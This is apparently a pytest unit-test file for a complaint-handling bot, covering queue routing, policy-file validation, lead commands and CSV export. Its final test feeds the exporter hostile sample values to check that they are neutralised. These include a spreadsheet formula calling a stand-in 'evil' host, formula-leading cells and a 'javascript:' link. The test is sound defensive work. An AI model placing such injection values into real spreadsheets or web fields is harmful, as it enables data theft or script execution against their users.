"""Queues: a complaint lands on exactly one queue (the first that takes it, else the default), its card goes to that
queue's channel on each chat tool, the policy file is checked with messages that name what is wrong, and leads can
read the queues from the team command."""

from __future__ import annotations

import csv
import io
import re
import tomllib
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import pytest

from bot.config import SettingsError
from bot.queues_file import load_queues
from handlers.domain.complaint import Actor, Role
from handlers.domain.hours import ALWAYS
from handlers.domain.queue import QueueConfigError, parse_queues
from handlers.domain.sla import DEFAULT_POLICIES
from handlers.domain.stats import CaseRecord
from handlers.intake.receive import receive
from handlers.ports.clock import ManualClock
from handlers.team.command_answers import LeadDesk
from handlers.team.command_words import parse
from handlers.team.export import COLUMNS, ExportAsked, export_csv
from handlers.team.stats import parse_period
from handlers.team.words.common import CommandError
from handlers.team.words.queues import QueueInfo, TakeNext
from handlers.team.words.reports import Backlog, Export, Stats
from tests.fakes import SURFACE, FakeDatabase, FakeDedupe
from tests.unit.test_triage import T0, TRIAGE, tweet

POLICY = {
    "queues": [
        {"name": "elite", "title": "Elite desk", "tiers": ["vip", "elite"], "channels": {SURFACE: "C0ELITE"}},
        {"name": "refunds", "topics": ["refund"], "channels": {SURFACE: "C0REFUNDS"}},
        {"name": "other-air", "brands": ["@OtherAir"]},
    ],
    "default": {"name": "care", "title": "Care team"},
}


def test_each_complaint_lands_on_the_first_queue_that_takes_it_and_its_card_goes_to_that_channel() -> None:
    db = FakeDatabase()
    db.state.tiers["vic"] = "vip"
    triage = replace(TRIAGE, queues=parse_queues(POLICY))
    items = [
        tweet(1, "@SqueakyAir where is my refund??", author="vic"),  # a VIP asking for a refund: elite comes first
        tweet(2, "@SqueakyAir where is my refund", author="ann"),
        tweet(3, "@OtherAir my bag is lost", author="bo"),
        tweet(4, "@SqueakyAir my bag is lost", author="cy"),
    ]
    opened = receive(db, ManualClock(T0), FakeDedupe(), triage, items).opened
    assert {db.state.complaints[i].author_handle: db.state.complaints[i].queue for i in opened} == {
        "vic": "elite",
        "ann": "refunds",
        "bo": "other-air",
        "cy": "care",
    }
    with db() as uow:
        posts = uow.outbox.lease_due(T0 + timedelta(seconds=1), 30, 10)
    channels = {db.state.complaints[m.complaint_id or 0].author_handle: m.payload["channel"] for m in posts}
    assert channels == {"vic": "C0ELITE", "ann": "C0REFUNDS", "bo": "", "cy": ""}  # "": the tool's own channel
    assert len({m.body().lane for m in posts if m.payload["channel"]}) == 2  # a lane per channel
    assert all("channels" not in m.payload for m in posts)


@pytest.mark.parametrize(
    ("data", "says"),
    [
        ({"queues": [{"tiers": ["vip"]}]}, "queues[0].name must be a short name"),
        ({"queues": [{"name": "vip"}]}, "queues[0] (vip) has no match rules"),
        ({"queues": [{"name": "Big Desk", "tiers": ["vip"]}]}, "must be a short name"),
        ({"queues": [{"name": "a", "tiers": "vip"}]}, "queues[0] (a).tiers must be a list of names"),
        ({"queues": [{"name": "care", "tiers": ["vip"]}]}, "two queues are called 'care'"),
        ({"default": {"name": "care", "topics": ["refund"]}}, "default (care) takes whatever no other queue takes"),
        ({"queues": [{"name": "a", "tiers": ["vip"], "channels": ["C1"]}]}, "channels must map a chat tool"),
    ],
)
def test_a_wrong_policy_names_the_queue_and_the_key(data: dict[str, object], says: str) -> None:
    with pytest.raises(QueueConfigError) as raised:
        parse_queues(data)
    assert says in str(raised.value)


def test_the_shipped_file_is_one_default_queue_and_channel_ids_are_checked_per_chat_tool(tmp_path: Path) -> None:
    shipped = load_queues("config/queues.toml")
    assert [q.name for q in shipped.all()] == ["care"]
    bad = tmp_path / "queues.toml"
    bad.write_text('[[queues]]\nname = "elite"\ntiers = ["vip"]\nchannels = { slack = "#elite" }\n')
    with pytest.raises(SettingsError, match="'#elite' is not a Slack channel id"):
        load_queues(str(bad))
    bad.write_text('[[queues]]\nname = "elite"\ntiers = ["vip"]\nchannels = { discord = "123" }\n')
    with pytest.raises(SettingsError, match="names 'discord': not a chat tool"):
        load_queues(str(bad))
    assert tomllib.loads(Path("config/queues.toml").read_text())["default"]["name"] == "care"
    text = Path("config/queues.toml").read_text()
    example = "\n".join(line.removeprefix("# ") for line in text.splitlines() if line.startswith("# ") and "=" in line)
    example = example.replace('name = "elite"', '[[queues]]\nname = "elite"')
    example = example.replace('name = "refunds"', '[[queues]]\nname = "refunds"')
    uncommented = tmp_path / "example.toml"
    uncommented.write_text(example + "\n" + text)
    elite, refunds, _ = load_queues(str(uncommented)).all()  # the file's own example reads as it says
    assert elite.service_levels["vip"].claim_minutes == 5 and elite.leads["slack"] == ("S0ELITELEADS",)
    assert refunds.hours.timezone == "Europe/London" and not refunds.hours.always


def test_queue_list_and_show_read_as_commands() -> None:
    assert parse("queue list") == QueueInfo("list") and parse("queues") == QueueInfo("list")
    assert parse("queue show Elite") == QueueInfo("show", "elite")
    desk = LeadDesk(FakeDatabase(), ManualClock(T0), queues=parse_queues(POLICY))
    lead = Actor("1", "lea", "chat", frozenset({Role.AGENT, Role.LEAD}))
    answer = desk.run(lead, "queue show nowhere")
    assert (
        answer.refused
        and "there is no queue called 'nowhere'; there are elite, refunds, other-air, care" in answer.title
    )


def test_next_reads_as_a_command_with_an_optional_queue() -> None:
    assert parse("next") == TakeNext() and parse("next Refunds") == TakeNext("refunds")
    with pytest.raises(CommandError, match="say next, or next and a queue's name"):
        parse("next refunds please")


def test_stats_backlog_and_export_read_a_queue_by_name_and_by_queue_is_a_breakdown() -> None:
    assert parse("stats 7d queue Elite") == Stats("7d", queue="elite")
    assert parse("stats by queue") == Stats(by="queue")
    assert parse("stats 30d by tier queue elite public") == Stats("30d", "tier", True, "elite")
    assert parse("stats fairness 30d queue elite") == Stats("30d", queue="elite", fairness=True)
    assert parse("backlog queue care public") == Backlog(True, "care")
    assert parse("export") == Export() and parse("export 7d queue elite") == Export("7d", "elite")
    for words, says in [
        ("stats 7d queue", "`queue` takes a queue's name"),
        ("stats fairness by tier", "leave out `by`"),
        ("export 7d soon", "I don't know what `soon` means here"),
        ("backlog everything", "backlog takes only `queue NAME` and `public`"),
    ]:
        with pytest.raises(CommandError, match=re.escape(says)):
            parse(words)


def test_the_export_keeps_cells_from_running_as_formulas_and_says_which_levels_were_met() -> None:
    arrived = T0
    record = CaseRecord(
        7, arrived, "care", "standard", "=HYPERLINK(1)", "x", "closed", "+maria", 250_000,
        arrived + timedelta(minutes=90), None, None, arrived + timedelta(minutes=95),
        author_handle="@ann.bsky.social", url="https://bsky.app/profile/ann.bsky.social/post/3k",
        text='=IMPORTXML("http://evil", "//a")\nand a second line',
    )  # fmt: skip
    hostile = replace(record, complaint_id=8, url="javascript:alert(1)", source="intake", text="-2+3")
    rules = lambda queue: (DEFAULT_POLICIES, ALWAYS)  # noqa: E731
    data, count = export_csv([record, hostile], rules, arrived + timedelta(days=1), {"x": "X"})
    [header, row, other] = list(csv.reader(io.StringIO(data.decode())))
    assert count == 2 and tuple(header) == COLUMNS
    values = dict(zip(header, row, strict=True))
    assert values["topic"] == "'=HYPERLINK(1)" and values["owner"] == "'+maria"
    assert (values["handle"], values["network"]) == ("ann.bsky.social", "X")
    assert values["post_link"] == "https://bsky.app/profile/ann.bsky.social/post/3k"
    assert values["text"] == '\'=IMPORTXML("http://evil", "//a")\nand a second line'  # one cell, never a formula
    shown = dict(zip(header, other, strict=True))  # a link that is not a web address is left out
    assert (shown["post_link"], shown["network"], shown["text"]) == ("", "intake", "'-2+3")
    assert values["follower_band"] == "100k+" and values["seconds_to_claim"] == "5400"
    assert (values["claim_level"], values["acknowledge_level"]) == ("missed", "")  # closed unacknowledged: not due
    assert ExportAsked(parse_period("7d", T0, "UTC"), "elite").filename == "squeaky-cases-elite-20261115-20261122.csv"
    november = parse_period("2026-11-01..2026-11-30", T0, "Europe/Berlin")
    assert ExportAsked(november).filename == "squeaky-cases-20261101-20261130.csv"
